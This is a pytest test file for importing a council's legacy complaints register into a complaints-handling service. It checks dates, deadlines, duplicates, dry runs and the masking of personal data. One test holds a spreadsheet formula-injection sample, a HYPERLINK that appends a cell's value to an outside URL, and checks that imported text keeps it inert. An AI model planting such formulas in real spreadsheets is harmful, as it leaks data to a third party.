"""A register brought in: every complaint recounted from the file, once and whole."""

from __future__ import annotations

import csv
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import delete, func, select, update
from support.councils import NOW, bare_council
from support.recount import Case, cases, lines
from support.registers import SAMPLE, TODAY, register

from complaints_service.content.register.history import NOT_DESCRIBED
from complaints_service.domain.complaint import Complaint
from complaints_service.domain.fold import fold
from complaints_service.domain.stages import State, Timeliness
from complaints_service.domain.timeliness import timeliness
from complaints_service.persistence.base import table
from complaints_service.persistence.complaints import load
from complaints_service.persistence.database import db
from complaints_service.persistence.models.complaint import ComplaintRow, DeadlineRow, StageRow
from complaints_service.persistence.models.event import ChainEntryRow, EventRow
from complaints_service.persistence.models.message import LetterRow, OutboxRow
from complaints_service.persistence.models.people import OrganisationRow
from complaints_service.persistence.models.register import RegisterRowRow
from complaints_service.persistence.streams import private_values, read_events
from complaints_service.persistence.transaction import transaction
from complaints_service.services import rules_in_use
from complaints_service.services.audit import verify
from complaints_service.services.invariants.registry import check_all
from complaints_service.services.rebuild import differences
from complaints_service.services.register_import import RegisterImport, Wish, import_register

COUNCIL = "runnymede"
HEADINGS = ["Ref", "Date received", "Service", "Complaint", "Date acknowledged",
            "Stage 1 response date", "Stage 1 outcome"]


@pytest.fixture(scope="module")
def sample(
    database_server: str, database_template: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Flask, RegisterImport]]:
    """The sample, imported once for the tests that only look."""
    folder = tmp_path_factory.mktemp("council")
    with bare_council(database_server, database_template, folder) as app:
        with app.app_context():
            result = import_register(SAMPLE, Wish(COUNCIL))
        yield app, result


@pytest.fixture
def few(tmp_path: Path) -> Path:
    """The first 130 lines of the sample: two commits, every kind of refusal but one."""
    file = tmp_path / "few.csv"
    rows = SAMPLE.read_text(encoding="utf-8").splitlines(keepends=True)
    file.write_text("".join(rows[:130]), encoding="utf-8")
    return file


@pytest.fixture
def council(database_server: str, database_template: str, tmp_path: Path) -> Iterator[Flask]:
    """An empty installation inside its application's context."""
    with bare_council(database_server, database_template, tmp_path) as app, app.app_context():
        yield app


def stage_rows() -> dict[tuple[str, int], Any]:
    return {(row.ref, row.stage): row for row in db.session.execute(select(table(StageRow)))}


def count(model: Any) -> int:
    return db.session.scalar(select(func.count()).select_from(model)) or 0


def whole(ref: str) -> Complaint:
    complaint = load(db.session(), ref)
    assert complaint is not None
    return complaint


def named(*, told: bool = False) -> list[Case]:
    """Those that have a reference in the sample: all but a few."""
    found = [case for case in cases(SAMPLE, TODAY, told=told) if case.ref]
    assert len(found) > 380
    return found


def faults() -> list[Any]:
    session, rules = db.session(), rules_in_use.rules()
    return [*check_all(session, rules, NOW).violations, *differences(session, rules),
            *verify(session).faults]


def one(folder: Path, *cells: str, headings: list[str] = HEADINGS) -> Path:
    return register(folder, [headings, list(cells)])


def test_every_stage_of_every_complaint(sample: tuple[Flask, RegisterImport]) -> None:
    """Dates, due dates, findings and extensions, beside a recount by hand."""
    app, _ = sample
    with app.app_context():
        rows = stage_rows()
        names = dict(db.session.execute(select(ComplaintRow.ref, ComplaintRow.old_reference)).all())
    expected = Counter(
        (case.ref, n, stage.started, stage.acknowledge_by, stage.acknowledged, stage.original,
         stage.respond_by, stage.answered, stage.finding, int(stage.further > 0))
        for case in cases(SAMPLE, TODAY) for n, stage in ((1, case.one), (2, case.two)) if stage
    )
    # Some rows of the sample have no reference.
    assert Counter(
        (names[ref] or "", n, row.started_on, row.acknowledge_by, row.acknowledged_on,
         row.original_respond_by, row.respond_by, row.responded_on, row.finding, row.extensions)
        for (ref, n), row in rows.items()
    ) == expected
    assert expected.total() == 394 + 65


def compliance(case: Case, n: int) -> str | None:
    stage = case.one if n == 1 else case.two
    if stage is None:
        return None
    if stage.answered is None:
        return "open_overdue" if stage.respond_by < TODAY else "open_in_time"
    if stage.answered <= stage.original:
        return "on_time"
    late = stage.answered > stage.respond_by
    if not stage.further:
        return "late"
    return "late_extended" if late else "on_time_extended"


@pytest.mark.parametrize("told", [False, True])
def test_compliance_is_that_of_the_register(council: Flask, told: bool) -> None:
    """With `--extensions-told` the extensions within the cap count, else none does."""
    import_register(SAMPLE, Wish(COUNCIL, extensions_told=told))
    found: Counter[str | None] = Counter()
    for case in named(told=told):
        for n in (1, 2):
            late = timeliness(whole(case.ref), n, rules_in_use.rules(), TODAY)
            assert (late and late.value) == compliance(case, n), case.ref
            found[late] += 1
    assert (found[Timeliness.ON_TIME_EXTENDED] > 0) is told
    asserted = db.session.scalar(select(func.count()).select_from(EventRow).where(
        EventRow.type == "extended", EventRow.data["told_asserted_by_import"].as_boolean()))
    assert asserted == (49 if told else 0)


def test_the_answer_accounts_for_every_row(sample: tuple[Flask, RegisterImport]) -> None:
    _, result = sample
    assert (result.rows, result.imported, result.already_there, result.skipped) == (403, 394, 2, 1)
    assert result.rows == (
        result.imported + result.already_there + result.skipped + len(result.refused))
    assert [(one.row, one.value) for one in result.refused] == [
        (55, "31/02/2025"), (138, "31/02/2025"), (139, "01/01/2019"), (293, "01/01/2019"),
        (305, "01/01/2019"), (327, "31/02/2025")]


def test_what_came_in_is_sound(sample: tuple[Flask, RegisterImport]) -> None:
    """Events fold to the snapshot, every invariant holds, every hash is recomputed."""
    app, _ = sample
    with app.app_context():
        assert faults() == []
        for case in named()[:60]:
            assert fold(read_events(db.session(), case.ref)) == whole(case.ref)
        # One entry of the chain for each commit of 100 rows.
        assert count(ChainEntryRow) == 4


def test_nothing_is_sent_and_all_is_marked(sample: tuple[Flask, RegisterImport]) -> None:
    app, _ = sample
    with app.app_context():
        assert (count(LetterRow), count(OutboxRow)) == (0, 0)
        marks = db.session.execute(select(
            func.bool_and(EventRow.data["imported"].as_boolean()),
            func.array_agg(EventRow.actor.distinct()), func.array_agg(EventRow.role.distinct()),
            func.min(EventRow.recorded_at), func.max(EventRow.occurred_at))).one()
        assert tuple(marks)[:4] == (True, ["system"], ["system"], NOW)
        assert marks[4] <= NOW
        assert whole("C2500001").imported
        # London noon of the day, in summer time.
        assert whole("C2500001").received_at == datetime(2025, 7, 8, 11, tzinfo=UTC)


def test_particulars_are_kept_where_they_belong(sample: tuple[Flask, RegisterImport]) -> None:
    """Personal data and free text lie apart from the events; the rest stands in them."""
    app, _ = sample
    with app.app_context():
        for case in named():
            complaint, said = whole(case.ref), private_values(db.session(), case.ref)
            cells = case.cells
            assert complaint.old_reference == complaint.ref == cells["Ref"]
            assert (complaint.ward or "") == cells["Ward"]
            assert complaint.description is not None
            assert said[complaint.description.sha256] == (
                cells["Complaint"].strip() or NOT_DESCRIBED)
            (person,) = complaint.complainants
            assert said[person.details.sha256] == {
                "name": cells["Complainant"], "email": cells["Email"],
                "postcode": cells["Postcode"]}
            note = [text for text in said.values() if "of the old register" in str(text)]
            assert ("Stage 1 target: " in note[0]) is bool(cells["Stage 1 target"])
            told = str([one.data for one in read_events(db.session(), case.ref)])
            assert cells["Complainant"] not in told
            assert cells["Email"] not in told
            assert not cells["Complaint"] or cells["Complaint"] not in told


def test_the_ombudsmen_and_the_codes(sample: tuple[Flask, RegisterImport]) -> None:
    app, _ = sample
    decided = Counter()
    with app.app_context():
        for case in named():
            complaint = whole(case.ref)
            landlord = case.cells["Service"] in (
                "Housing - Repairs", "Housing - Tenancy & ASB", "Housing - Rents")
            went = {"HOS": "housing", "Housing Ombudsman": "housing"}.get(case.cells["Ombudsman"])
            body = complaint.ombudsman[0].body if complaint.ombudsman else None
            assert went in (None, body)
            assert complaint.codes == (body or ("housing" if landlord else "lgsco"),)
            decided.update(
                (one.body, one.status, one.findings[0].category) for one in complaint.ombudsman)
    assert decided == {
        ("lgsco", "decided", "upheld"): 2, ("lgsco", "decided", "not_upheld"): 3,
        ("housing", "decided", "maladministration"): 2,
        ("housing", "decided", "no_maladministration"): 2,
        ("housing", "decided", "reasonable_redress"): 2}  # fmt: skip


def test_compensation_is_kept_and_never_falls_due(sample: tuple[Flask, RegisterImport]) -> None:
    """The register does not say whether it was paid, nor by when it was to be."""
    app, _ = sample
    with app.app_context():
        remedies = {case.ref: whole(case.ref).remedies for case in named()}
        given = [remedy for found in remedies.values() for remedy in found]
        assert {(one.status, one.due_on) for one in given} == {("agreed", None)}
        assert len(given) == 36
        assert remedies["C2600002"][0].amount_pence == 3000
        kinds = db.session.scalars(select(DeadlineRow.kind).distinct())
        assert not {"remedy", "obligation"} & set(kinds)


def test_a_second_run_imports_nothing(council: Flask, few: Path) -> None:
    """Bug 56: the same register twice."""
    first = import_register(few, Wish(COUNCIL))
    before = count(EventRow)
    again = import_register(few, Wish(COUNCIL))
    assert first.imported > 100
    assert (again.imported, again.already_there, again.changed) == (
        0, first.imported + first.already_there, [])
    assert (count(EventRow), count(ChainEntryRow)) == (before, 2)
    assert again.refused == first.refused


def test_two_imports_at_once_import_each_row_once(council: Flask, few: Path) -> None:
    def run() -> RegisterImport:
        with council.app_context():
            try:
                return import_register(few, Wish(COUNCIL))
            finally:
                db.session.remove()

    with ThreadPoolExecutor(2) as threads:
        both = [one.result() for one in [threads.submit(run), threads.submit(run)]]
    assert sum(one.imported for one in both) == count(ComplaintRow) > 100
    assert both[0].rows == both[1].rows
    assert all(one.rows == one.imported + one.already_there + one.skipped + len(one.refused)
               for one in both)


def test_an_erased_complaint_does_not_come_back(council: Flask, tmp_path: Path) -> None:
    """Bug 56: what was erased under an old reference stays away, and hinders nobody."""
    file = one(tmp_path, "C-1", "02/03/2026", "Planning", "No reply", "", "", "")
    import_register(file, Wish(COUNCIL))
    with transaction() as session:
        session.execute(update(table(RegisterRowRow)).values(ref=None, digest=None))
        for model in (DeadlineRow, StageRow, ComplaintRow):
            session.execute(delete(table(model)))
    again = import_register(file, Wish(COUNCIL))
    assert (again.imported, again.already_there, again.changed) == (0, 1, [])
    assert import_register(file, Wish("guildford")).imported == 1


def test_a_changed_row_is_told_and_left(council: Flask, tmp_path: Path) -> None:
    import_register(one(tmp_path, "C-1", "02/03/2026", "Planning", "No reply", "", "", ""),
                    Wish(COUNCIL))
    answered = one(tmp_path, "C-1", "02/03/2026", "Planning", "No reply", "", "04/03/2026",
                   "Upheld")
    again = import_register(answered, Wish(COUNCIL))
    assert (again.imported, again.already_there) == (0, 1)
    assert [asdict(changed) for changed in again.changed] == [{"row": 2, "ref": "C-1"}]
    assert whole("C-1").state is State.STAGE_1_ACCEPTED


def test_a_row_without_reference_is_known_again(council: Flask, tmp_path: Path) -> None:
    cells = ("02/03/2026", "Planning", "No reply", "", "", "")
    assert import_register(one(tmp_path, *cells, headings=HEADINGS[1:]), Wish(COUNCIL)).imported
    answered = ("02/03/2026", "Planning", "No reply", "", "04/03/2026", "Upheld")
    again = import_register(one(tmp_path, *answered, headings=HEADINGS[1:]), Wish(COUNCIL))
    assert (again.imported, len(again.changed)) == (0, 1)
    # What tells it from others derives from personal data: neither row nor event repeats it.
    (row,) = db.session.scalars(select(RegisterRowRow))
    assert (len(row.identity), len(row.digest or "")) == (64, 64)
    assert whole(str(row.ref)).old_reference is None


def test_a_dry_run_writes_nothing_and_says_the_same(council: Flask, few: Path) -> None:
    """The organisation, too, is not made."""
    tried = import_register(few, Wish(COUNCIL, dry_run=True))
    kinds = (ComplaintRow, EventRow, RegisterRowRow, OrganisationRow)
    assert [count(model) for model in kinds] == [0, 0, 0, 0]
    done = import_register(few, Wish(COUNCIL))
    assert {**asdict(done), "dry_run": True} == asdict(tried)
    assert done.imported > 100
    again = import_register(few, Wish(COUNCIL, dry_run=True))
    assert (again.imported, again.already_there) == (0, done.imported + done.already_there)


def test_two_councils_may_have_the_same_references(council: Flask, few: Path) -> None:
    """The second one's complaints get references of their own and keep the old ones."""
    for key in (COUNCIL, "west-surrey"):
        import_register(few, Wish(key))
    rows = db.session.execute(select(
        ComplaintRow.organisation, ComplaintRow.ref, ComplaintRow.old_reference)).all()
    held = Counter(row.organisation for row in rows)
    assert held[COUNCIL] == held["west-surrey"] > 100
    assert len({row.ref for row in rows}) == held.total()
    assert all((row.ref == row.old_reference) is (row.organisation == COUNCIL)
               for row in rows if row.old_reference)
    names = db.session.scalars(select(OrganisationRow.name).order_by(OrganisationRow.name))
    assert list(names) == ["Runnymede", "West Surrey"]
    assert faults() == []


@pytest.mark.parametrize(
    ("reference", "kept"),
    [
        ("C-2026_7", True),
        # What cannot stand in an address.
        ("C/2026/7", False), ("C 7", False), ("C7", False), ("Ç2026", False), ("x" * 41, False),
        # What names a record of another kind here.
        ("IMP-0001", False), ("ed-0001", False),
    ],
)  # fmt: skip
def test_references(council: Flask, tmp_path: Path, reference: str, kept: bool) -> None:
    import_register(one(tmp_path, reference, "02/03/2026", "Planning", "No", "", "", ""),
                    Wish(COUNCIL))
    (row,) = db.session.execute(select(ComplaintRow.ref, ComplaintRow.old_reference))
    assert row.old_reference == reference
    assert (row.ref == reference) is kept


def test_a_spreadsheet_gives_the_same_complaints(
    sample: tuple[Flask, RegisterImport], council: Flask, few: Path, tmp_path: Path
) -> None:
    """Dates as Excel holds them, the headings below a title."""
    book = openpyxl.Workbook()
    assert book.active is not None
    for n, row in enumerate(csv.reader(few.read_text(encoding="utf-8").splitlines()), 1):
        book.active.append([_as_excel(n, cell) for cell in row])
    file = tmp_path / "register.xlsx"
    book.save(file)
    assert import_register(file, Wish(COUNCIL)).imported > 100
    ours = _by_reference()
    with sample[0].app_context():
        theirs = _by_reference()
    assert ours.items() <= theirs.items()
    assert len(ours) > 100


def _by_reference() -> dict[tuple[str, int], tuple[Any, ...]]:
    """The stages of those that came with a reference."""
    own = set(db.session.scalars(select(ComplaintRow.ref).where(
        ComplaintRow.ref == ComplaintRow.old_reference)))
    return {key: tuple(row) for key, row in stage_rows().items() if key[0] in own}


def _as_excel(line: int, cell: str) -> Any:
    day, month, year = [*cell.split("/"), "", ""][:3]
    if line > 2 and (day + month + year).isdigit() and cell.count("/") == 2:
        try:
            return datetime(int(year), int(month), int(day))  # noqa: DTZ001 - a local day
        except ValueError:
            return cell
    return int(cell) if cell.isdigit() else cell


LIVES = [
    # Received and nothing more.
    (("02/11/2026",), State.STAGE_1_ACCEPTED),
    # Acknowledged.
    (("02/11/2026", "04/11/2026"), State.STAGE_1_INVESTIGATING),
    # Answered without acknowledgement, without an outcome.
    (("02/11/2026", "", "10/11/2026", ""), State.STAGE_1_RESPONDED),
    (("02/11/2026", "04/11/2026", "10/11/2026", "Resolved early"), State.STAGE_1_RESPONDED),
    # Refused, before and after it was acknowledged.
    (("02/11/2026", "", "10/11/2026", "Not accepted"), State.DECLINED),
    (("02/11/2026", "04/11/2026", "10/11/2026", "Not accepted"), State.DECLINED),
    (("02/11/2026", "04/11/2026", "10/11/2026", "Withdrawn"), State.WITHDRAWN),
    # Stage 2: asked for, refused, withdrawn, answered without an outcome.
    (("02/09/2026", "04/09/2026", "10/09/2026", "Upheld", "14/09/2026"), State.STAGE_2_REQUESTED),
    (("02/09/2026", "04/09/2026", "10/09/2026", "Upheld", "14/09/2026", "", "18/09/2026",
      "Not accepted"), State.STAGE_1_RESPONDED),
    (("02/09/2026", "04/09/2026", "10/09/2026", "Upheld", "14/09/2026", "16/09/2026", "18/09/2026",
      "Withdrawn"), State.WITHDRAWN),
    (("02/09/2026", "04/09/2026", "10/09/2026", "Upheld", "14/09/2026", "16/09/2026", "18/09/2026"),
     State.STAGE_2_RESPONDED),
    # Stage 2 asked for while stage 1 was overdue, and so it still is.
    (("02/09/2026", "04/09/2026", "", "", "14/10/2026"), State.STAGE_1_INVESTIGATING),
    (("02/09/2026", "04/09/2026", "20/10/2026", "No", "14/10/2026"), State.STAGE_2_REQUESTED),
    # Compensation on a refusal; an Ombudsman with and without a decision; put away.
    (("02/11/2026", "", "10/11/2026", "Excluded", "", "", "", "", "£50"), State.DECLINED),
    (("02/11/2026", "", "10/11/2026", "Excluded", "", "", "", "", "", "LGO", "", "Upheld"),
     State.DECLINED),
    (("02/09/2026", "04/09/2026", "10/09/2026", "Upheld", "", "", "", "", "", "LGSCO"),
     State.STAGE_1_RESPONDED),
    (("02/09/2026", "04/09/2026", "10/09/2026", "Upheld", "", "", "", "", "", "HOS", "123",
      "Maladministration", "15/09/2026"), State.CLOSED),
    (("02/09/2026", "04/09/2026", "10/09/2026", "Withdrawn", "", "", "", "", "", "", "", "",
      "15/09/2026"), State.CLOSED),
]  # fmt: skip
LIFE = ["received", "acknowledged", "stage_1_responded", "stage_1_outcome", "stage_2_requested",
        "stage_2_acknowledged", "stage_2_responded", "stage_2_outcome", "compensation",
        "ombudsman", "ombudsman_reference", "ombudsman_decision", "closed"]


def test_whatever_a_register_lacks(council: Flask, tmp_path: Path) -> None:
    rows = [[f"L{n:03d}", "Planning", "No reply", *cells, *[""] * (len(LIFE) - len(cells))]
            for n, (cells, _) in enumerate(LIVES)]
    file = register(tmp_path, [["old_reference", "service", "description", *LIFE], *rows])
    result = import_register(file, Wish(COUNCIL))
    assert (result.imported, result.refused) == (len(LIVES), [])
    for n, (_, state) in enumerate(LIVES):
        assert whole(f"L{n:03d}").state is state, LIVES[n]
    assert faults() == []
    # A refusal counts as one, though its ground is not recorded.
    refused = db.session.scalars(
        select(ComplaintRow.declined_ground).where(ComplaintRow.state == "declined"))
    assert list(refused) == ["none"] * 4


def test_days_before_the_calendar_refuse_the_row(council: Flask, tmp_path: Path) -> None:
    """No due date is guessed: the row is refused with its field, its day and the mend."""
    file = register(tmp_path, [
        ["Reference", "Received on", "Service", "Complaint", "Stage 2 requested",
         "Stage 1 response date"],
        ["C1", "05/03/2018", "Planning", "No reply", "", ""],
        ["C2", "31/12/2018", "Planning", "No reply", "20/02/2019", "10/01/2019"],
        ["C-3", "02/01/2019", "Planning", "No reply", "", ""]])
    result = import_register(file, Wish(COUNCIL))
    assert (result.rows, result.imported) == (3, 1)
    assert [(one.row, one.field, one.value) for one in result.refused] == [
        (2, "Received on", "05/03/2018"), (3, "Received on", "31/12/2018")]
    assert "2019" in result.refused[0].why
    assert whole("C-3").received_on == date(2019, 1, 2)


@pytest.mark.parametrize(
    ("heading", "value", "told"),
    [
        # Personal columns never speak.
        ("Complainant", "N" * 500, False), ("Postal address", "A" * 1200, False),
        # A neighbour's cell has moved into the column of days.
        ("Date acknowledged", "noor.rowe@example.org", False),
        ("Date acknowledged", "Noor Rowe", False), ("Date acknowledged", "01784 555 123", False),
        # What is meant for a day is shown, so that it can be mended.
        ("Date acknowledged", "31st Feb 2026", True), ("Date acknowledged", "2026-13-01", True),
        ("Stage 1 outcome", "Bananas", True),
        ("Stage 1 outcome", "wrote to noor.rowe@example.org", False),
    ],
)  # fmt: skip
def test_refusals_tell_no_personal_data(
    council: Flask, tmp_path: Path, heading: str, value: str, told: bool
) -> None:
    cells = dict.fromkeys([*HEADINGS, "Complainant", "Postal address"], "") | {
        "Ref": "C1", "Date received": "02/03/2026", "Service": "Planning",
        "Stage 1 response date": "18/03/2026", heading: value}
    result = import_register(register(tmp_path, [list(cells), list(cells.values())]),
                             Wish(COUNCIL))
    (refused,) = result.refused
    assert refused.field == heading
    assert (value in refused.value) is told
    assert (value in refused.why) is False or told
    assert refused.value == (value if told else "(not shown)")


def test_formulas_stay_inert(council: Flask, tmp_path: Path) -> None:
    """Text that a spreadsheet would run is kept word for word, as text."""
    wicked = '=HYPERLINK("http://example.org/?"&A1,"Click")'
    import_register(one(tmp_path, "C-1", "02/03/2026", "Planning", wicked, "", "", ""),
                    Wish(COUNCIL))
    said = private_values(db.session(), "C-1")
    assert wicked in said.values()


def test_an_older_target_is_kept_and_the_code_still_counts(
    council: Flask, tmp_path: Path
) -> None:
    """Bug 57: a target that the council had set stays on file; the due date is the Code's."""
    import_register(
        one(tmp_path, "C-1", "02/03/2026", "Planning", "No reply", "31/03/2026", "",
            headings=["Ref", "Date received", "Service", "Complaint", "Stage 1 target",
                      "Date acknowledged"]), Wish(COUNCIL))
    assert "Stage 1 target: 31 March 2026" in str(private_values(db.session(), "C-1").values())
    assert stage_rows()["C-1", 1].respond_by == date(2026, 3, 23)


def test_what_is_not_known_is_told(council: Flask, tmp_path: Path) -> None:
    file = register(tmp_path, [["Ref", "Date received", "Service", "Complaint", "Shoe size"],
                               ["C-1", "02/03/2026", "Unicorns", "No reply", "9"]])
    result = import_register(file, Wish(COUNCIL))
    assert result.unused_headings == ["Shoe size"]
    assert [(one.field, one.value, one.taken_as) for one in result.unknown_values] == [
        ("Service", "Unicorns", "other")]


def test_the_lines_of_the_sample_are_told_apart() -> None:
    """The recount reads what it says it reads."""
    assert len(lines(SAMPLE)) == 403
    assert len(cases(SAMPLE, TODAY)) == 394
